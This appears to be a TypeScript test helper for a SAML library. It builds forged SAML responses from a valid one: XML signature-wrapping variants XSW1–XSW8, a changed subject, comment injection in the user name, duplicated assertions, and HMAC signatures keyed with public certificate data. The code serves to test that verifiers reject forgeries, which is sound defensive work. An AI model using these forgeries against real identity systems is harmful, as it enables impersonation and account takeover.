// Forged SAML responses that an attacker without the signing key makes from a valid one: signature wrapping (XSW1 to
// XSW8, Somorovsky et al. 2012), changed texts, comments and copies, and HMACs keyed with public data.
import { createHmac, X509Certificate } from 'node:crypto';
import { createRequire } from 'node:module';
import { NAMESPACES } from '../../../core/saml/names.ts';

const HMAC_SHA1 = `${NAMESPACES.signature}hmac-sha1`;

interface HmacSigner {
  SignatureAlgorithms: Record<string, unknown>;
  addReference(o: Record<string, unknown>): void;
  computeSignature(xml: string, o: { location: { reference: string; action: string } }): void;
  getSignedXml(): string;
  enableHMAC(): void;
  loadSignature(signature: string): void;
  checkSignature(xml: string): boolean;
}

const loadSigner = () =>
  (createRequire(import.meta.url)('xml-crypto') as { SignedXml: new (options: object) => HmacSigner }).SignedXml;

/** Signs the element with this ID with an HMAC over its canonical SignedInfo. */
export function signWithHmac(xml: string, id: string, key: string | Buffer): string {
  const SignedXml = loadSigner();
  const signer = new SignedXml({
    privateKey: key,
    signatureAlgorithm: HMAC_SHA1,
    canonicalizationAlgorithm: NAMESPACES.canonical,
    idAttributes: ['ID'],
  });
  signer.SignatureAlgorithms = {
    [HMAC_SHA1]: class {
      getAlgorithmName = (): string => HMAC_SHA1;
      getSignature = (signedInfo: string, secret: string | Buffer): string =>
        createHmac('sha1', secret).update(signedInfo).digest('base64');
    },
  };
  signer.addReference({
    xpath: `//*[@ID='${id}']`,
    digestAlgorithm: `${NAMESPACES.encryption}sha256`,
    transforms: [`${NAMESPACES.signature}enveloped-signature`, NAMESPACES.canonical],
  });
  signer.computeSignature(xml, {
    location: { reference: `//*[@ID='${id}']/*[local-name(.)='Issuer']`, action: 'after' },
  });
  return signer.getSignedXml();
}

/** Returns true if a verifier that allows HMAC accepts the signature with this key. */
export function verifyHmac(xml: string, key: string | Buffer): boolean {
  const SignedXml = loadSigner();
  const verifier = new SignedXml({ publicCert: key });
  verifier.enableHMAC();
  verifier.loadSignature(/<Signature .*?<\/Signature>/s.exec(xml)?.[0] as string);
  return verifier.checkSignature(xml);
}

/**
 * Returns the encodings of a certificate and its public key, by name. An attacker knows all of them and may use one as
 * an HMAC key.
 */
export function encodePublicKey(certificate: Buffer): Record<string, string | Buffer> {
  const parsed = new X509Certificate(certificate);
  return {
    'PEM of the certificate': parsed.toString(),
    'DER of the certificate': certificate,
    'base64 of the certificate': certificate.toString('base64'),
    'PEM of the public key': parsed.publicKey.export({ type: 'spki', format: 'pem' }),
    'DER of the public key': parsed.publicKey.export({ type: 'spki', format: 'der' }),
  };
}

/**
 * Returns the forged responses by name. The valid response is about the user ada, most forged ones about eve. `id` is
 * the id of the valid assertion.
 */
export function createForgedResponses(good: string, id = '_x'): Record<string, string> {
  const signature = /<(?:ds:)?Signature .*?<\/(?:ds:)?Signature>/s.exec(good)?.[0] as string;
  const [assertion = ''] = /<saml:Assertion .*<\/saml:Assertion>/s.exec(good) ?? [];
  const forged = assertion
    .replace(/<(?:ds:)?Signature .*?<\/(?:ds:)?Signature>/s, '')
    .replace(`ID="${id}"`, 'ID="_evil"')
    .replaceAll('ada', 'eve');
  const unsigned = good.replace(signature, '');
  const inside = (xml: string, place: string, put: string): string => xml.replace(place, `${put}${place}`);
  const evilResponse = unsigned.replace(`ID="_r${id}"`, 'ID="_revil"').replaceAll('ada', 'eve');
  return {
    'XSW1: the original inside the Signature of a forged response': evilResponse.replace(
      '</saml:Issuer>',
      `</saml:Issuer>${signature.replace('</Signature>', `<Object>${unsigned}</Object></Signature>`)}`,
    ),
    'XSW2: the original before the Signature': evilResponse.replace(
      '</saml:Issuer>',
      `</saml:Issuer>${unsigned}${signature}`,
    ),
    'XSW3: a forged assertion before the signed one': inside(good, assertion, forged),
    'XSW4: the signed assertion inside the forged one': good.replace(
      assertion,
      forged.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`),
    ),
    'XSW5: the forged assertion has the signature of the other': good.replace(
      assertion,
      forged.replace('</saml:Issuer>', `</saml:Issuer>${signature}`),
    ),
    'XSW6: the original inside the Signature of the forged assertion': good.replace(
      assertion,
      forged.replace(
        '</saml:Issuer>',
        `</saml:Issuer>${signature.replace('</Signature>', `<Object>${assertion}</Object></Signature>`)}`,
      ),
    ),
    'XSW7: a copy inside Extensions': good.replace(
      '<samlp:Status>',
      `<samlp:Extensions>${forged}</samlp:Extensions><samlp:Status>`,
    ),
    'XSW8: the original inside an Object of the forged one': good.replace(
      assertion,
      forged.replace(
        '</saml:Assertion>',
        `<Object xmlns="http://www.w3.org/2000/09/xmldsig#">${assertion}</Object></saml:Assertion>`,
      ),
    ),
    'a changed subject': good.replace('>ada<', '>eve<'),
    'a comment in the subject': good.replace('>ada<', '>ad<!-- -->a<'),
    'two assertions, both as the provider wrote them': inside(good, assertion, assertion),
  };
}
